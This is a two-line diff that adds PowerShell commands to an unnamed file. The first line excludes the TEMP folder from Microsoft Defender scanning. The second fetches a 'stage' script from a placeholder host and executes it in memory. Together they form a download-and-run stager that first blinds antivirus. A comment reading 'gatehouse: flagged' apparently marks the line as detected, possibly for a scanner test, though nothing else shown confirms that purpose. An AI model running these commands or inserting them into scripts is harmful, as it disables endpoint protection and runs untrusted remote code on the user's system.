@@ -1,0 +1,2 @@
+Add-MpPreference -ExclusionPath $env:TEMP
+iex (irm https://files.example.invalid/stage) # gatehouse: flagged
